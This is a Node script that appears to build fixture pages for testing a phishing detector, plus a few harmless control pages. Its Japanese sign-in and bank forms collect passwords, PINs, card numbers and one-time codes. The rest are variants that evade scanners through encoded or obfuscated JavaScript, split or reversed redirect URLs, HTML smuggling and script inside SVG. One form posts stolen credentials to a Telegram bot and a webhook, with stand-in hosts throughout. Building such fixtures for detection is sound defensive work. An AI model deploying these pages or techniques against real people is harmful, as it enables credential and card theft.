#!/usr/bin/env node
import { execFileSync } from 'node:child_process'
/* Makes the pages beside it, all of our own invention. Needs javascript-obfuscator (npm), in a folder of its own:
     npm install --prefix /tmp/pagetools --ignore-scripts javascript-obfuscator@5.8.0 qrcode@1.5.4
     node make.mjs /tmp/pagetools */
import { writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join, resolve } from 'node:path'
import { gzipSync } from 'node:zlib'

const tools = createRequire(join(resolve(process.argv[2] ?? '.'), 'package.json'))
const { obfuscate } = tools('javascript-obfuscator')
const qr = tools('qrcode')
const write = (name, content) => writeFileSync(new URL(name, import.meta.url), content)
const base64 = (text) => Buffer.from(text).toString('base64')

const signIn = `<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>サインイン</title></head>
<body><h1>サインイン</h1><p>セッションの有効期限が切れました。続行するにはパスワードを入力してください。</p>
<form action="https://collect.example/next.php" method="post">
<input type="email" name="loginfmt" value="taro.yamada@example.com" readonly>
<input type="password" name="passwd" placeholder="パスワード"><button>サインイン</button></form></body></html>
`
write('sign-in-prefilled.html', signIn)

// A bank's page, in the character set that old Japanese pages have.
const bank = `<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"><title>ご本人様確認</title></head>
<body><h2>ご本人様確認のお願い</h2><p>第三者による不正利用の可能性があるため、お取引を制限しております。</p>
<form method="post" action="https://kakunin.test/save"><table>
<tr><td>契約者番号</td><td><input name="f1"></td></tr>
<tr><td>ログインパスワード</td><td><input name="f2" type="text" style="-webkit-text-security: disc"></td></tr>
<tr><td>キャッシュカードの暗証番号</td><td><input name="f3" maxlength="4"></td></tr>
<tr><td>カード番号</td><td><input name="f4"></td></tr>
<tr><td>セキュリティコード</td><td><input name="f5" size="3"></td></tr>
<tr><td>ワンタイムパスワード</td><td><input name="f6"></td></tr></table>
<input type="submit" value="次へ"></form></body></html>
`
write('bank.sjis.html', execFileSync('iconv', ['-f', 'utf-8', '-t', 'cp932'], { input: bank }))

const shell = (script) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>請求書</title></head><body><script>${script}</script></body></html>\n`
write('write-atob.html', shell(`document.write(decodeURIComponent(escape(atob('${base64(signIn)}'))))`))
write(
  'write-unescape.html',
  shell(`document.write(unescape('${[...Buffer.from(signIn)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}'))`),
)
write(
  'char-codes.html',
  shell(
    `var k=23;var d=[${[...signIn].map((c) => c.charCodeAt(0) ^ 23)}].map(function(c){return String.fromCharCode(c^k)}).join('');document.open();document.write(d);document.close()`,
  ),
)
write(
  'xor-loop.html',
  shell(
    `var d=atob('${Buffer.from(Buffer.from(signIn).map((byte, at) => byte ^ 'key'.charCodeAt(at % 3))).toString('base64')}'),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^'key'.charCodeAt(i%3));document.write(o)`,
  ),
)
write(
  'blob-page.html',
  shell(
    `const page=atob("${base64(signIn)}");const bytes=Uint8Array.from(page,c=>c.charCodeAt(0));location.href=URL.createObjectURL(new Blob([bytes],{type:'text/html'}))`,
  ),
)
write(
  'joined-address.html',
  shell(
    `var a='aHR0cHM6';var b='Ly9ldmlsLmV4';var c='YW1wbGUvbG9naW4=';setTimeout(function(){window.location.replace(atob(a+b+c)+'?e=taro@example.com')},10)`,
  ),
)
write('reversed-address.html', shell(`top.location='${[...'https://evil.example/m365/'].reverse().join('')}'.split('').reverse().join('')`))
write(
  'refresh.html',
  `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/r?u=1"></head><body>開いています…</body></html>\n`,
)
write(
  'telegram.html',
  signIn.replace('<form action="https://collect.example/next.php" method="post">', '<form id="f">').replace(
    '</body>',
    `<script>
document.getElementById('f').addEventListener('submit', async (event) => {
  event.preventDefault()
  const token = '1234567:EXAMPLE-not-a-token'
  await fetch(\`https://api.telegram.org/bot\${token}/sendMessage\`, { method: 'POST', body: new FormData(event.target) })
  await fetch('https://hooks.example/' + 'collect', { method: 'POST' })
})
</script></body>`,
  ),
)
const obfuscated = obfuscate(`document.write(${JSON.stringify(signIn)});window.location.href='https://evil.example/after'`, {
  seed: 5,
  compact: true,
  stringArray: true,
  stringArrayEncoding: ['base64'],
  stringArrayThreshold: 1,
  splitStrings: true,
  splitStringsChunkLength: 40,
}).getObfuscatedCode()
write('obfuscated.html', shell(obfuscated))
const light = obfuscate(`var go='https://evil.example/light';window.location.href=go`, {
  seed: 5,
  stringArray: false,
  compact: true,
}).getObfuscatedCode()
write('obfuscated-light.html', shell(light))
write(
  'smuggled-file.html',
  shell(
    `var f=atob('${gzipSync(Buffer.from(Array.from({ length: 60 }, (_, at) => Math.sin(at + 1)).join())).toString('base64')}');var u=Uint8Array.from(f,function(c){return c.charCodeAt(0)});var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='請求書.gz';a.click()`,
  ),
)
write(
  'data-frame.html',
  `<html><body><iframe src="data:text/html;base64,${base64(signIn)}" style="width:100%;height:100%"></iframe></body></html>\n`,
)
write(
  'remote-script.html',
  `<!doctype html><html><head><title>文書</title></head><body><div id="root"></div><script src="https://cdn.evil.example/app.js"></script></body></html>\n`,
)
const code = await qr.toDataURL('https://evil.example/qr', { margin: 2 })
write('qr-picture.html', `<html lang="ja"><body><p>スマートフォンで読み取ってください</p><img alt="QR" src="${code}"></body></html>\n`)

write(
  'link.svg',
  `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200">
<a xlink:href="https://evil.example/svg"><rect width="400" height="200" fill="#0067b8"/><text x="20" y="100" fill="#fff">文書を表示する</text></a></svg>
`,
)
write(
  'script.svg',
  `<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script type="application/ecmascript"><![CDATA[
var e='dGFyb0BleGFtcGxlLmNvbQ==';window.location.href = atob('${base64('https://evil.example/svg?e=')}')+atob(e);
]]></script></svg>
`,
)
write(
  'foreign-object.svg',
  `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><foreignObject width="400" height="300"><body xmlns="http://www.w3.org/1999/xhtml">
<form action="https://evil.example/collect"><p>パスワード</p><input type="password" name="p"/><input type="submit" value="送信"/></form></body></foreignObject></svg>
`,
)
write(
  'self-closing.xhtml',
  `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [<!ENTITY to "https://evil.example/entity">]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>確認</title><script src="x.js"/></head><body><p><a href="&to;">確認する</a></p></body></html>
`,
)

// Honest pages.
write(
  'ok.receipt.html',
  `<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>領収書</title><style>body{font-family:sans-serif}</style>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Order","merchant":{"name":"みどり書店"}}</script></head>
<body><h1>領収書</h1><p>山田太郎 様</p><table><tr><td>文庫本</td><td>880円</td></tr><tr><td>合計</td><td>880円</td></tr></table>
<p>みどり書店 <a href="https://midori.example/">https://midori.example/</a></p><button onclick="window.print()">印刷</button></body></html>
`,
)
write(
  'ok.newsletter.html',
  `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>みどり書店だより 11月号</title></head><body>
<h1>みどり書店だより</h1><p>新刊のご案内です。</p><p><a href="https://midori.example/new">新刊を見る</a></p>
<form action="https://midori.example/search"><input type="search" name="q" placeholder="本を探す"></form>
<p>パスワードをお忘れの方は<a href="https://midori.example/reset">こちら</a></p>
<script>var ga=document.createElement('script');ga.src='https://midori.example/stats.js';document.body.appendChild(ga);
if (top !== self) { top.location = self.location }</script></body></html>
`,
)
// As a browser saves a sign-in page of today: a bundle that decodes small things, a form, a script that moves on after a press.
write(
  'ok.saved-sign-in.html',
  `<!DOCTYPE html>
<!-- saved from url=(0029)https://www.midori.example/login -->
<html lang="ja"><head><meta charset="utf-8"><title>ログイン | みどり書店</title>
<noscript><meta http-equiv="refresh" content="0;url=https://www.midori.example/noscript"></noscript>
<script>!function(){function d(t){return decodeURIComponent(t.replace(/\\+/g," "))}
function p(){return JSON.parse(atob("eyJhIjoxfQ=="))}
window.token="${base64('an opaque state of the server, '.repeat(20))}";window.app={read:d,part:p,icon:"data:image/png;base64,iVBORw0KGgo${'A'.repeat(700)}",show:function(n,h){n.innerHTML=h},
leave:function(u){window.location.href="https://www.midori.example/my?next="+encodeURIComponent(u)}};
document.addEventListener("click",function(e){if(e.target.id==="go"){window.app.leave(location.pathname)}})}();</script></head>
<body><h1>ログイン</h1><form action="https://www.midori.example/login" method="post"><label for="i">メールアドレス</label><input id="i" name="mail">
<label for="p">パスワード</label><input id="p" name="password" type="password" autocomplete="current-password"><button id="go">ログイン</button></form>
<p>はじめてご利用の方は会員登録をお願いいたします。</p></body></html>
`,
)
